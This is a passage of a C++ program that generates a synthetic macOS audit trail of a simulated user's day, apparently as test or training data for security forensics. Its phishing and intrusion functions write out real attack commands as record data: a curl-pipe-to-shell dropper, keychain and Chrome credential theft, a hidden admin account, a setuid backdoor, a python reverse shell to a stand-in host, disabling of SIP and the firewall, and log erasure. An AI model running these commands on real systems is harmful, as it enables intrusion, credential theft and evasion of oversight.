            tr.open(vim, t + 31, readOnly, home + "/.vimrc");
            tr.open(vim, t + 33, readOnly, home + "/.viminfo");
            tr.open(vim, t + 35, readOnly, source);
            tr.open(vim, t + 37, writeCreate, swap);
            const Millis saved = t + seconds(d.between(40, 200)) + d.below(1000);
            tr.open(vim, saved, writeTruncate, source);
            tr.open(vim, saved + 400, writeTruncate, home + "/.viminfo");
            tr.unlink(vim, saved + 420, swap, orvikID);
            tr.exit(vim, saved + 450);
            break;
        }
        case 4: {
            Process ls = tr.run(shell, t, Bin::ls, {"ls", "-la", "build"});
            tr.openFolder(ls, t + 6, project + "/build");
            tr.exit(ls, t + 25);
            break;
        }
        case 5: {
            Process grep = tr.run(shell, t, Bin::grep, {"grep", "-rn", "TODO", "src"});
            Millis at = t + 8;
            tr.openFolder(grep, at, project + "/src");
            for (const char *s : sources) tr.open(grep, at += 2 + d.below(5), readOnly, project + "/" + s);
            tr.exit(grep, at + 20, 0);
            break;
        }
        case 6: {
            Process py = tr.run(shell, t, Bin::python3, {"python3", "scripts/plot_levels.py", "data/stations.csv"});
            Millis at = t + 60;
            for (const char *module :
                 {"encodings/__init__.py", "codecs.py", "os.py", "site.py", "csv.py", "datetime.py"})
                tr.open(py, at += 8 + d.below(20), readOnly, python + module, rootID);
            tr.open(py, at + 140, readOnly, project + "/scripts/plot_levels.py");
            tr.open(py, at + 200, readOnly, project + "/data/stations.csv");
            tr.open(py, at + 2300, writeCreate, project + "/out/levels.png");
            tr.exit(py, at + 2500);
            break;
        }
        default: {
            Process cat = tr.run(shell, t, Bin::cat, {"cat", "README.md"});
            tr.open(cat, t + 10, readOnly, project + "/README.md");
            tr.exit(cat, t + 20);
            break;
        }
        }
    }
}

// ---- the day ------------------------------------------------------------------------------------

void boot(Machine &m)
{
    Trail &tr = m.trail;
    const Process launchd = tr.launchd();
    m.auditd = Process{.pid = 88};
    tr.note(m.auditd, at(5, 58, 10, 12), 45000, "auditd::Audit startup");
    m.syslogd = tr.spawn(launchd, at(5, 58, 10, 140), Bin::syslogd, {Bin::syslogd.path}, daemonAs(rootID));
    m.mdns = tr.spawn(launchd, at(5, 58, 10, 310), Bin::mDNSResponder, {Bin::mDNSResponder.path}, daemonAs(mdnsID));
    m.cfprefsd = tr.spawn(launchd, at(5, 58, 10, 480), Bin::cfprefsd, {Bin::cfprefsd.path, "daemon"}, daemonAs(rootID));
    m.tccd = tr.spawn(launchd, at(5, 58, 10, 655), Bin::tccd, {Bin::tccd.path, "system"}, daemonAs(rootID));
    tr.open(m.tccd, at(5, 58, 10, 700), readWrite, "/Library/Application Support/com.apple.TCC/TCC.db", rootID);
    m.timed = tr.spawn(launchd, at(5, 58, 11, 20), Bin::timed, {Bin::timed.path}, daemonAs(timedID));
    tr.connect(m.timed, at(5, 58, 11, 400), inet("17.253.4.253", 123));
    tr.stepClock(m.timed, at(5, 58, 11, 470), 2318); // the real-time clock ran behind the network's
    m.softwareupdated = tr.spawn(launchd, at(5, 58, 12, 5), Bin::softwareupdated, {Bin::softwareupdated.path},
                                 daemonAs(updateID));
    m.loginwindow = tr.spawn(launchd, at(5, 58, 12, 300), Bin::loginwindow, {Bin::loginwindow.path, "console"},
                             daemonAs(rootID));
    m.loginwindow.sid = 100005;
    tr.open(m.syslogd, at(5, 58, 13), writeCreate, "/private/var/log/system.log", rootID);
}

void consoleLogin(Machine &m)
{
    Trail &tr = m.trail;
    const Process launchd = tr.launchd();
    // A mistyped password at the login screen, then the real one.
    tr.note(m.loginwindow, at(7, 52, 4, 210), 45021, "loginwindow: authentication failed for <orvik>", 1);
    Process session = m.loginwindow;
    session.auid = orvikID;
    session.sid = 100017;
    tr.note(session, at(7, 52, 11, 640), 45021, "loginwindow: login succeeded for <orvik>");
    m.loginwindow = session;

    const Process user = orvikIn(100017);
    m.cfprefsdUser = tr.spawn(launchd, at(7, 52, 12, 80), Bin::cfprefsd, {Bin::cfprefsd.path, "agent"}, user);
    m.finder = tr.spawn(launchd, at(7, 52, 12, 610), Bin::finder, {Bin::finder.path}, user);
    m.dock = tr.spawn(launchd, at(7, 52, 12, 650), Bin::dock, {Bin::dock.path}, user);
    tr.open(m.dock, at(7, 52, 12, 900), readOnly, home + "/Library/Preferences/com.apple.dock.plist");
    m.mail = tr.spawn(launchd, at(7, 52, 19, 10), Bin::mail, {Bin::mail.path}, user);
    tr.connect(m.mail, at(7, 52, 20, 300), inet("17.42.251.41", 993));
    m.messenger = tr.spawn(launchd, at(7, 53, 2, 0), Bin::messenger, {Bin::messenger.path}, user);
    tr.connect(m.messenger, at(7, 53, 3, 90), inet("34.237.73.95", 443));
    m.safari = tr.spawn(launchd, at(7, 55, 40, 0), Bin::safari, {Bin::safari.path}, user);
    tr.connect(m.safari, at(7, 55, 41, 20), local("/var/run/mDNSResponder"));
    tr.connect(m.safari, at(7, 55, 41, 150), inet("2a04:4e42:400::347", 443));
    m.editor = tr.spawn(launchd, at(7, 58, 3, 0), Bin::editor, {Bin::editor.path}, user);
    tr.open(m.editor, at(7, 58, 4, 0), readOnly, project + "/src/station.c");

    // Terminal runs login, which starts the login shell.
    m.terminal = tr.spawn(launchd, at(8, 1, 30, 0), Bin::terminal, {Bin::terminal.path}, user);
    Process login = tr.run(m.terminal, at(8, 1, 30, 400), Bin::login, {"login", "-pf", "orvik"});
    m.console = tr.fork(login.actingAs(rootID, wheel), at(8, 1, 30, 430));
    m.console = m.console.actingAs(orvikID, staff);
    tr.exec(m.console, at(8, 1, 30, 432), Bin::zsh, {"-zsh"});
    tr.open(m.console, at(8, 1, 30, 470), readOnly, home + "/.zshrc");
    tr.open(m.console, at(8, 1, 30, 480), readOnly, home + "/.zsh_history");
}

void softwareUpdateCheck(Machine &m)
{
    Trail &tr = m.trail;
    // sudo refuses the first, mistyped password.
    Process sudo = tr.run(m.console, at(11, 6, 2, 0), Bin::sudo, {"sudo", "softwareupdate", "-l"});
    sudo = sudo.actingAs(rootID, staff);
    sudo.ruid = orvikID;
    tr.note(sudo, at(11, 6, 9, 310), 45028,
            "orvik : 1 incorrect password attempt ; TTY=ttys001 ; PWD=/Users/orvik/Projects/tidewatch ; USER=root ; "
            "COMMAND=/usr/sbin/softwareupdate -l",
            1);
    tr.exit(sudo, at(11, 6, 9, 400), 1);
    sudo = tr.run(m.console, at(11, 6, 15, 0), Bin::sudo, {"sudo", "softwareupdate", "-l"});
    sudo = sudo.actingAs(rootID, staff);
    sudo.ruid = orvikID;
    tr.note(
        sudo, at(11, 6, 21, 120), 45028,
        "orvik : TTY=ttys001 ; PWD=/Users/orvik/Projects/tidewatch ; USER=root ; COMMAND=/usr/sbin/softwareupdate -l");
    Process update = tr.run(sudo.actingAs(rootID, wheel), at(11, 6, 21, 200), Bin::softwareupdate,
                            {"softwareupdate", "-l"});
    tr.connect(m.softwareupdated, at(11, 6, 22, 0), inet("17.253.144.12", 443));
    tr.exit(update, at(11, 6, 58, 0));
    tr.exit(sudo, at(11, 6, 58, 40));
}

void remoteCheckIn(Machine &m)
{
    // orvik looks in from his other laptop over IPv6 on the home network.
    Trail &tr = m.trail;
    const Bytes laptop = ip6("fd42:7a3b:19::17");
    Process sshd = tr.spawn(tr.launchd(), at(10, 22, 5, 0), Bin::sshd, {"/usr/sbin/sshd", "-i"}, daemonAs(rootID));
    sshd.address = laptop;
    sshd.remote = true;
    Process in = sshd;
    in.auid = orvikID;
    in.sid = 100233;
    tr.note(in, at(10, 22, 6, 480), 32800, "sshd: publickey login for <orvik> from fd42:7a3b:19::17", 0, true);
    Process shell = tr.fork(in, at(10, 22, 6, 600)).actingAs(orvikID, staff);
    tr.exec(shell, at(10, 22, 6, 610), Bin::zsh, {"-zsh"});
    tr.runBriefly(shell, at(10, 22, 14, 0), Bin::uptime, {"uptime"});
    Process tail = tr.run(shell, at(10, 22, 31, 0), Bin::tail, {"tail", "-n", "50", "/var/log/system.log"});
    tr.open(tail, at(10, 22, 31, 20), readOnly, "/private/var/log/system.log", rootID);
    tr.exit(tail, at(10, 22, 31, 60));
    tr.open(shell, at(10, 24, 2, 0), writeOnly, home + "/.zsh_history");
    tr.exit(shell, at(10, 24, 2, 30));
    tr.note(in, at(10, 24, 2, 90), 6153, "sshd: logout <orvik>", 0, true);
    tr.exit(sshd, at(10, 24, 2, 120));
}

void screenUnlock(Machine &m)
{
    Trail &tr = m.trail;
    tr.note(m.loginwindow, at(12, 41, 50, 330), 45023, "screensaver: authentication failed for <orvik>", 1);
    tr.note(m.loginwindow, at(12, 41, 57, 10), 45023, "screensaver: authentication succeeded for <orvik>");
}

// A fake Zoom update from a phishing link: it asks for the password, stages a payload in /tmp,
// steals what it can reach as orvik and installs a launch agent.
void phishing(Machine &m)
{
    Trail &tr = m.trail;
    const std::string zip = home + "/Downloads/ZoomUpdate.zip";
    tr.connect(m.safari, at(13, 38, 40, 0), inet("198.51.100.77", 443));
    tr.open(m.safari, at(13, 38, 44, 500), writeCreate, zip);

    Process unzip = tr.spawn(tr.launchd(), at(13, 38, 51, 0), Bin::archiveUtility, {Bin::archiveUtility.path},
                             orvikIn(100017));
    tr.open(unzip, at(13, 38, 51, 200), readOnly, zip);
    tr.makeFolder(unzip, at(13, 38, 51, 260), home + "/Downloads/ZoomUpdate.app");
    tr.open(unzip, at(13, 38, 51, 400), writeCreate, Bin::zoomUpdate.path);
    tr.changeMode(unzip, at(13, 38, 51, 420), Bin::zoomUpdate.path, 0755, orvikID);
    tr.exit(unzip, at(13, 38, 53, 0));

    Process lure = tr.spawn(m.finder, at(13, 39, 5, 0), Bin::zoomUpdate, {Bin::zoomUpdate.path}, orvikIn(100017));
    Process prompt = tr.run(
        lure, at(13, 39, 6, 0), Bin::osascript,
        {"osascript", "-e",
         "display dialog \"Zoom needs to finish updating. Enter your password to continue.\" default answer \"\" "
         "with hidden answer with title \"Zoom Update\""});
    tr.exit(prompt, at(13, 39, 31, 0));

    Process dropper = tr.run(lure, at(13, 39, 32, 0), Bin::sh,
                             {"sh", "-c", "curl -fsSL http://198.51.100.23/i/boot.sh | sh"});
    Process fetch = tr.run(dropper, at(13, 39, 32, 20), Bin::curl, {"curl", "-fsSL", "http://198.51.100.23/i/boot.sh"});
    tr.connect(fetch, at(13, 39, 32, 60), inet("198.51.100.23", 80));
    tr.exit(fetch, at(13, 39, 32, 700));
    Process script = tr.run(dropper, at(13, 39, 32, 30), Bin::sh, {"sh"});
    Process step = tr.run(script, at(13, 39, 33, 0), Bin::mkdir, {"mkdir", "-p", "/tmp/.zs"});
    tr.makeFolder(step, at(13, 39, 33, 10), "/private/tmp/.zs");
    tr.exit(step, at(13, 39, 33, 20));
    step = tr.run(script, at(13, 39, 33, 40), Bin::curl,
                  {"curl", "-fsSL", "-o", "/tmp/.zs/zsvc.b64", "http://198.51.100.23/i/zsvc.b64"});
    tr.connect(step, at(13, 39, 33, 80), inet("198.51.100.23", 80));
    tr.open(step, at(13, 39, 33, 300), writeCreate, "/private/tmp/.zs/zsvc.b64");
    tr.exit(step, at(13, 39, 35, 100));
    step = tr.run(script, at(13, 39, 35, 200), Bin::base64,
                  {"base64", "-d", "-i", "/tmp/.zs/zsvc.b64", "-o", "/tmp/.zs/zoomsvc"});
    tr.open(step, at(13, 39, 35, 210), readOnly, "/private/tmp/.zs/zsvc.b64");
    tr.open(step, at(13, 39, 35, 215), writeCreate, Bin::zoomsvc.path);
    tr.exit(step, at(13, 39, 35, 300));
    tr.runBriefly(script, at(13, 39, 35, 320), Bin::xattr, {"xattr", "-d", "com.apple.quarantine", "/tmp/.zs/zoomsvc"});
    step = tr.run(script, at(13, 39, 35, 400), Bin::chmod, {"chmod", "+x", "/tmp/.zs/zoomsvc"});
    tr.changeMode(step, at(13, 39, 35, 410), Bin::zoomsvc.path, 0755, orvikID);
    tr.exit(step, at(13, 39, 35, 420));
    Process svc = tr.run(script, at(13, 39, 35, 500), Bin::zoomsvc, {"/tmp/.zs/zoomsvc", "--daemon"});
    tr.exit(script, at(13, 39, 35, 600));
    tr.exit(dropper, at(13, 39, 35, 610));
    tr.exit(lure, at(13, 39, 36, 0));

    // The implant: call home, look around, collect, persist.
    tr.connect(svc, at(13, 39, 37, 0), inet("198.51.100.23", 443));
    tr.runBriefly(svc, at(13, 40, 2, 0), Bin::whoami, {"whoami"}, 15);
    tr.runBriefly(svc, at(13, 40, 2, 200), Bin::swVers, {"sw_vers"}, 40);
    tr.runBriefly(svc, at(13, 40, 2, 500), Bin::systemProfiler, {"system_profiler", "SPHardwareDataType"}, 1900);
    tr.runBriefly(svc, at(13, 40, 5, 0), Bin::csrutil, {"csrutil", "status"}, 60);
    tr.auditon(svc, at(13, 40, 6, 0), 222, 4, 1); // tries to quieten auditing; not root
    Process sec = tr.run(svc, at(13, 40, 9, 0), Bin::security,
                         {"security", "find-generic-password", "-ws", "Chrome Safe Storage"});
    tr.exit(sec, at(13, 40, 14, 0));
    tr.open(svc, at(13, 40, 15, 0), readOnly, home + "/Library/Keychains/login.keychain-db");
    tr.open(svc, at(13, 40, 15, 300), readOnly, home + "/Library/Application Support/Google/Chrome/Default/Login Data");
    tr.open(svc, at(13, 40, 15, 320), readOnly, home + "/Library/Application Support/Google/Chrome/Default/Cookies");
    Process shot = tr.run(svc, at(13, 40, 20, 0), Bin::screencapture, {"screencapture", "-x", "/tmp/.zs/s1.png"});
    tr.open(shot, at(13, 40, 20, 600), writeCreate, "/private/tmp/.zs/s1.png");
    tr.exit(shot, at(13, 40, 20, 700));
    tr.runBriefly(svc, at(13, 40, 22, 0), Bin::osascript,
                  {"osascript", "-e", "tell application \"Finder\" to get name of every disk"}, 500);
    tr.open(svc, at(13, 40, 24, 0), writeCreate, Bin::kcd.path);
    tr.changeMode(svc, at(13, 40, 24, 30), Bin::kcd.path, 0755, orvikID);
    tr.connect(svc, at(13, 40, 30, 0), inet("198.51.100.23", 443));
    tr.open(svc, at(13, 41, 0, 0), writeCreate, Bin::agent.path);
    tr.changeMode(svc, at(13, 41, 0, 40), Bin::agent.path, 0755, orvikID);
    const std::string plist = home + "/Library/LaunchAgents/us.zoom.updater.plist";
    tr.open(svc, at(13, 41, 0, 200), writeCreate, plist);
    tr.runBriefly(svc, at(13, 41, 1, 0), Bin::launchctl, {"launchctl", "load", "-w", plist}, 120);
    Process agent = tr.spawn(tr.launchd(), at(13, 41, 1, 90), Bin::agent, {Bin::agent.path}, orvikIn(100017));
    tr.exit(svc, at(13, 41, 3, 0));

    for (Millis t : {at(14, 11, 1, 90), at(15, 41, 1, 90), at(17, 11, 1, 90), at(18, 41, 1, 90)})
        tr.connect(agent, t, inet("198.51.100.23", 443), t == at(17, 11, 1, 90) ? 145 : 0);
    // Tonight's tasks for whoever comes in.
    tr.open(agent, at(18, 41, 2, 0), writeCreate, "/private/tmp/.zs/d.plist");
    tr.open(agent, at(18, 41, 2, 40), writeCreate, "/private/tmp/.zs/cron");
}

// Password guessing over SSH, then a login with the phished password and a root shell.
void intrusion(Machine &m)
{
    Trail &tr = m.trail;
    const Bytes attacker = ip4("203.0.113.45");
    const std::vector<const char *> guesses = {"admin", "root",    "admin",  "test",  "guest", "orvik", "admin",
                                               "root",  "support", "ubuntu", "orvik", "orvik", "root",  "orvik"};
    Millis t = at(18, 47, 12, 0);
    for (size_t i = 0; i < guesses.size(); i += 3) {
        Process sshd = tr.spawn(tr.launchd(), t, Bin::sshd, {"/usr/sbin/sshd", "-i"}, daemonAs(rootID));
        sshd.address = attacker;
        sshd.remote = true;
        sshd.port = 50112 + uint32_t(i) * 7;
        for (size_t k = i; k < std::min(i + 3, guesses.size()); ++k) {
            t += seconds(tr.dice().between(4, 11)) + tr.dice().below(1000);
            tr.note(sshd, t, 32800, std::string("sshd: password authentication failed for <") + guesses[k] + ">", 1,
                    true);
        }
        tr.exit(sshd, t + 300, 255);
        t += seconds(tr.dice().between(20, 40));
    }

    Process sshd = tr.spawn(tr.launchd(), at(19, 12, 40, 0), Bin::sshd, {"/usr/sbin/sshd", "-i"}, daemonAs(rootID));
    sshd.address = attacker;
    sshd.remote = true;
    sshd.port = 50377;
    Process in = sshd;
    in.auid = orvikID;
    in.sid = 100412;
    tr.note(in, at(19, 12, 46, 200), 32800, "sshd: password login for <orvik> from 203.0.113.45", 0, true);
    Process user = tr.fork(in, at(19, 12, 46, 400)).actingAs(orvikID, staff);
    tr.exec(user, at(19, 12, 46, 410), Bin::zsh, {"-zsh"});
    m.attackerShell = user;
    tr.runBriefly(user, at(19, 13, 2, 0), Bin::id, {"id"}, 10);
    tr.runBriefly(user, at(19, 13, 6, 0), Bin::uname, {"uname", "-a"}, 10);

    Process sudo = tr.run(user, at(19, 14, 0, 0), Bin::sudo, {"sudo", "-s"});
    sudo = sudo.actingAs(rootID, staff);
    sudo.ruid = orvikID;
    tr.note(sudo, at(19, 14, 7, 0), 45028,
            "orvik : 1 incorrect password attempt ; TTY=ttys004 ; PWD=/Users/orvik ; USER=root ; COMMAND=/bin/zsh", 1);
    tr.exit(sudo, at(19, 14, 7, 50), 1);
    sudo = tr.run(user, at(19, 14, 12, 0), Bin::sudo, {"sudo", "-s"});
    sudo = sudo.actingAs(rootID, staff);
    sudo.ruid = orvikID;
    tr.note(sudo, at(19, 14, 18, 0), 45028, "orvik : TTY=ttys004 ; PWD=/Users/orvik ; USER=root ; COMMAND=/bin/zsh");
    Process root = tr.fork(sudo, at(19, 14, 18, 100)).actingAs(rootID, wheel);
    tr.exec(root, at(19, 14, 18, 110), Bin::zsh, {"/bin/zsh"});

    // A hidden administrator.
    t = at(19, 15, 0, 0);
    tr.runBriefly(root, t, Bin::dscl, {"dscl", ".", "-create", "/Users/_support"}, 200);
    tr.note(opendirectoryd, t + 150, 6207, "opendirectoryd: created user record <_support> in /Local/Default");
    tr.open(opendirectoryd, t + 160, writeCreate, "/private/var/db/dslocal/nodes/Default/users/_support.plist", rootID);
    tr.runBriefly(root, t + seconds(9), Bin::dscl, {"dscl", ".", "-create", "/Users/_support", "UniqueID", "499"}, 150);
    tr.runBriefly(root, t + seconds(15), Bin::dscl, {"dscl", ".", "-create", "/Users/_support", "IsHidden", "1"}, 150);
    tr.runBriefly(root, t + seconds(21), Bin::dscl, {"dscl", ".", "-passwd", "/Users/_support", "Tr1dent!2025"}, 400);
    tr.runBriefly(root, t + seconds(30), Bin::dseditgroup,
                  {"dseditgroup", "-o", "edit", "-a", "_support", "-t", "user", "admin"}, 300);
    tr.note(opendirectoryd, t + seconds(30) + 250, 6514, "opendirectoryd: added <_support> to group admin");
    tr.open(root, t + seconds(44), writeCreate, "/private/etc/sudoers.d/_support", rootID);

    // A setuid copy of the shell to come back with.
    t = at(19, 16, 10, 0);
    Process copy = tr.run(root, t, Bin::cp, {"cp", "/bin/zsh", "/Users/Shared/.zsvc-sh"});
    tr.open(copy, t + 10, readOnly, "/bin/zsh", rootID);
    tr.open(copy, t + 12, writeCreate, Bin::backdoor.path, rootID);
    tr.exit(copy, t + 60);
    Process mode = tr.run(root, t + seconds(4), Bin::chmod, {"chmod", "4755", "/Users/Shared/.zsvc-sh"});
    tr.changeMode(mode, t + seconds(4) + 10, Bin::backdoor.path, 04755, rootID);
    tr.exit(mode, t + seconds(4) + 20);

    // Persistence as root.
    t = at(19, 17, 0, 0);
    copy = tr.run(root, t, Bin::cp, {"cp", "/tmp/.zs/d.plist", "/Library/LaunchDaemons/com.apple.zsvc.plist"});
    tr.open(copy, t + 10, readOnly, "/private/tmp/.zs/d.plist", orvikID);
    tr.open(copy, t + 12, writeCreate, "/Library/LaunchDaemons/com.apple.zsvc.plist", rootID);
    tr.exit(copy, t + 40);
    tr.runBriefly(root, t + seconds(6), Bin::launchctl,
                  {"launchctl", "bootstrap", "system", "/Library/LaunchDaemons/com.apple.zsvc.plist"}, 90);
    Process prefs = tr.run(root, t + seconds(20), Bin::defaults,
                           {"defaults", "write", "/Library/Preferences/com.apple.loginwindow", "LoginHook",
                            "/Users/Shared/.zsvc-hook.sh"});
    tr.open(m.cfprefsd, t + seconds(20) + 80, writeTruncate, "/Library/Preferences/com.apple.loginwindow.plist", rootID);
    tr.exit(prefs, t + seconds(20) + 120);
    Process cron = tr.run(root, t + seconds(31), Bin::crontab, {"crontab", "/tmp/.zs/cron"});
    tr.open(cron, t + seconds(31) + 20, readOnly, "/private/tmp/.zs/cron", orvikID);
    tr.open(cron, t + seconds(31) + 30, writeCreate, "/private/var/at/tabs/root", rootID);
    tr.exit(cron, t + seconds(31) + 50);
    tr.open(root, t + seconds(40), writeOnly, home + "/.zshrc");

    // Weakening the machine's defences.
    t = at(19, 18, 30, 0);
    tr.runBriefly(root, t, Bin::spctl, {"spctl", "--master-disable"}, 300);
    tr.runBriefly(root, t + seconds(8), Bin::csrutil, {"csrutil", "disable"}, 80, 1);
    tr.runBriefly(root, t + seconds(15), Bin::socketfilterfw, {Bin::socketfilterfw.path, "--setglobalstate", "off"},
                  200);
    tr.runBriefly(root, t + seconds(22), Bin::systemsetup, {"systemsetup", "-setremotelogin", "on"}, 900);
    Process reset = tr.run(root, t + seconds(30), Bin::tccutil, {"tccutil", "reset", "All"});
    tr.open(m.tccd, t + seconds(30) + 50, readWrite, "/Library/Application Support/com.apple.TCC/TCC.db", rootID);
    tr.exit(reset, t + seconds(30) + 100);
    tr.runBriefly(root, t + seconds(41), Bin::kmutil,
                  {"kmutil", "load", "-p", "/Library/Extensions/ZoomAudioDevice.kext"}, 1500, 1);

    // Secrets from memory, and a way back in.
    t = at(19, 21, 0, 0);
    Process dump = tr.run(root, t, Bin::kcd, {"/tmp/.zs/kcd", std::to_string(securityd.pid)});
    tr.taskForPid(dump, t + 30, securityd);
    tr.open(dump, t + 60, readOnly, "/Library/Keychains/System.keychain", rootID);
    tr.open(dump, t + 400, writeCreate, "/private/tmp/.zs/k.out", rootID);
    tr.exit(dump, t + seconds(2));
    Process reverse = tr.run(root, t + seconds(20), Bin::python3,
                             {"python3", "-c",
                              "import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",4444));"
                              "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/zsh\")"});
    tr.connect(reverse, t + seconds(20) + 90, inet("198.51.100.23", 4444));
    tr.exit(reverse, at(19, 29, 40, 0));

    // Covering tracks.
    t = at(19, 30, 5, 0);
    // The clock jumps to the night, so what follows seems to happen long after anyone was about.
    Process clock = tr.run(root, t, Bin::date, {"date", "0311231525"});
    tr.setClock(clock, t + 5, at(23, 15));
    tr.exit(clock, t + 10);
    tr.open(root, t + seconds(12), writeOnly, "/private/etc/security/audit_control", rootID);
    tr.runBriefly(root, t + seconds(14), Bin::audit, {"audit", "-s"}, 60);
    tr.auditon(m.auditd, t + seconds(14) + 40, 222, 4);
    tr.runBriefly(root, t + seconds(20), Bin::log, {"log", "erase", "--all"}, 2500);
    Process remove = tr.run(root, t + seconds(26), Bin::rm, {"rm", "-f", "/var/log/system.log", "/var/log/install.log"});
    tr.unlink(remove, t + seconds(26) + 5, "/private/var/log/system.log", rootID);
    tr.unlink(remove, t + seconds(26) + 6, "/private/var/log/install.log", rootID);
    tr.exit(remove, t + seconds(26) + 10);
    remove = tr.run(root, t + seconds(31), Bin::rm, {"rm", "-f", "/var/audit/20250310060112.20250311055809"});
    tr.unlink(remove, t + seconds(31) + 5, "/private/var/audit/20250310060112.20250311055809", rootID);
    tr.exit(remove, t + seconds(31) + 10);
    tr.exit(root, at(19, 31, 0, 0));
    tr.exit(sudo, at(19, 31, 0, 20));

    // Back as orvik: try the setuid shell, wipe the history and stop auditing.
    t = at(19, 31, 20, 0);
    Process back = tr.run(user, t, Bin::backdoor, {"/Users/Shared/.zsvc-sh", "-p"});
    back = back.actingAs(orvikID, staff);
    back.euid = rootID;
    Process wipe = tr.run(back, t + seconds(9), Bin::sh,
                          {"sh", "-c", "rm ~/.zsh_history; rm -rf ~/.zsh_sessions; unset HISTFILE"});
    remove = tr.run(wipe, t + seconds(9) + 10, Bin::rm, {"rm", home + "/.zsh_history"});
    tr.unlink(remove, t + seconds(9) + 15, home + "/.zsh_history", orvikID);
    tr.exit(remove, t + seconds(9) + 20);
    remove = tr.run(wipe, t + seconds(9) + 30, Bin::rm, {"rm", "-rf", home + "/.zsh_sessions"});
    tr.unlink(remove, t + seconds(9) + 35, home + "/.zsh_sessions/8C1D0E52-4F3B-4A8E-9B1C-0D6E2F7A9B31.session",
              orvikID);
    tr.removeFolder(remove, t + seconds(9) + 37, home + "/.zsh_sessions", orvikID);
    tr.exit(remove, t + seconds(9) + 40);
    tr.exit(wipe, t + seconds(9) + 50);
    tr.runBriefly(back, t + seconds(17), Bin::audit, {"audit", "-t"}, 40);
    tr.note(m.auditd, t + seconds(17) + 30, 45001, "auditd::Audit shutdown");
}

void liveTheDay(Machine &m)
{
    boot(m);
    daemonChatter(m, at(5, 59), at(7, 52), false);
    consoleLogin(m);
    daemonChatter(m, at(7, 53), at(19, 30), true);
    devWork(m, at(8, 3), at(10, 20));
    remoteCheckIn(m);
    devWork(m, at(10, 30), at(11, 5));
    softwareUpdateCheck(m);
    devWork(m, at(11, 10), at(12, 30));
    screenUnlock(m);
    devWork(m, at(12, 45), at(13, 35));
    phishing(m);
    devWork(m, at(13, 45), at(17, 50));
    intrusion(m);
}

Bytes makeSample()
{
    Machine learning;
    liveTheDay(learning);
    Machine m;
    m.trail.follow(learning.trail.plan());
    liveTheDay(m);
    return m.trail.bytes();
}

} // namespace

int main(int argc, char **argv)
{
    if (argc != 2) {
        std::fprintf(stderr, "usage: %s <output path>\n", argv[0]);
        return 2;
    }
    const Bytes trail = makeSample();
    std::ofstream out(argv[1], std::ios::binary | std::ios::trunc);
    out.write(reinterpret_cast<const char *>(trail.data()), std::streamsize(trail.size()));
    out.close();
    if (!out) {
        std::fprintf(stderr, "cannot write %s\n", argv[1]);
        return 1;
    }
    return 0;
}
